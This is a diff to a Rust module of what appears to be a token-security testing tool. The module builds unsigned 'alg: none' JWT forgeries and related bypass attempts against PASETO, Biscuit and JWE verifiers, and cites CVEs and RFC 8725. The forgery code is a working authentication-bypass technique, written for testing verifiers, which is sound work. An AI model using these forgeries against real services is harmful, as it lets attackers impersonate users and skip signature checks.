@@ -7,15 +7,17 @@
 //! jsonwebtoken to 8.5.1 with a falsy key (CVE-2022-23540), PyPI Authlib 1.6.5
 //! (CVE-2026-28802), PHP F21/jwt (CVE-2015-2951).
 //!
-//! Other spellings of `none` are here too: a verifier that refuses one word
-//! and folds case elsewhere understands the others. A PASETO has no field to
-//! write `none` into, so the nearest things are tried against it: another
-//! version or purpose in the header, and a body without its signature. So it is
-//! with a Biscuit, whose signatures are left out or replaced, and with the id
-//! of a session, which says nothing. A verifier of JWEs is offered unsecured
-//! JWTs, since both are JWTs (RFC 7519 §7.2), and a JWE that is not encrypted.
+//! Other spellings of `none` are an attack of their own, on verifiers that
+//! refuse the word. A PASETO has no field to write `none` into, so the nearest
+//! things are tried against it: another version or purpose in the header, and a
+//! body without its signature. So it is with a Biscuit, whose signatures are
+//! left out or replaced, and with the id of a session, which says nothing. A
+//! verifier of JWEs is offered unsecured JWTs, since both are JWTs (RFC 7519
+//! §7.2), and a JWE that is not encrypted.
 
 use serde_json::Value;
+
+use tokenlab_record::catalogue::AttackClass;
 
 use crate::attack::{Attack, CannotForge, Forgery};
 use crate::attacker::AttackerView;
@@ -32,7 +34,10 @@ static PROFILE: AttackProfile = AttackProfile {
     id: "alg-none",
     title: "Unsecured token accepted",
     assumption: "A token may say of itself that it needs no signature.",
-    breaks: &[Weakness::UnsecuredAccepted, Weakness::NoneBlockList],
+    class: AttackClass::Algorithm,
+    given: &[],
+    isolated: false,
+    breaks: &[Weakness::UnsecuredAccepted],
     references: &[
         (
             "RFC 8725 §2.1",
@@ -47,16 +52,12 @@ static PROFILE: AttackProfile = AttackProfile {
             "`none` only where the caller asks for it and something else protects the token.",
         ),
         (
-            "draft-ietf-oauth-rfc8725bis §2.11",
-            "A block list that misses a spelling lets `nOnE` through.",
-        ),
-        (
             "CVE-2022-23540",
             "npm jsonwebtoken to 8.5.1 without `algorithms` and with a falsy key; fixed in 9.0.0.",
         ),
         (
             "CVE-2026-28802",
-            "PyPI Authlib 1.6.5 and 1.6.6 accept `alg: none`.",
+            "PyPI Authlib 1.6.5 and 1.6.6 accept `alg: none`; fixed in 1.6.7.",
         ),
         ("CVE-2015-2951", "PHP F21/jwt before 2.0 accepts `alg: none`."),
     ],
@@ -122,18 +123,14 @@ fn jwt(view: &AttackerView<'_>, notes: &mut Notebook) -> Result<Vec<Forgery>, Ca
         mint::jwt_payload(view.wanted())?,
     );
     let honest_signature = view.sample().rsplit('.').next().unwrap_or_default();
-    let mut forgeries = Vec::new();
-    for spelling in ["none", "None", "NONE", "nOnE"] {
-        let header = view.header_with_alg(spelling);
-        notes.variant_step(
-            spelling,
-            format!("Writes {spelling:?} where the header named an algorithm, and leaves the signature out."),
-            Value::Object(header.clone()).to_string(),
-        );
-        let token = mint::jws(&header, view.wanted(), &Signature::Empty)?;
-        forgeries.push(Forgery::new(spelling, token));
-    }
     let header = view.header_with_alg("none");
+    notes.variant_step(
+        "none",
+        "Writes \"none\" where the header named an algorithm, and leaves the signature out.",
+        Value::Object(header.clone()).to_string(),
+    );
+    let unsigned = mint::jws(&header, view.wanted(), &Signature::Empty)?;
+    let mut forgeries = vec![Forgery::new("none", unsigned.clone())];
     notes.variant_step(
         "none-old-signature",
         "Writes \"none\" and leaves the old signature where it was, in case the verifier wants to see one.",
@@ -149,7 +146,6 @@ fn jwt(view: &AttackerView<'_>, notes: &mut Notebook) -> Result<Vec<Forgery>, Ca
         "Writes \"none\" and drops the last dot together with the signature.",
         "",
     );
-    let unsigned = mint::jws(&header, view.wanted(), &Signature::Empty)?;
     forgeries.push(Forgery::new(
         "none-two-parts",
         unsigned.trim_end_matches('.').to_owned(),
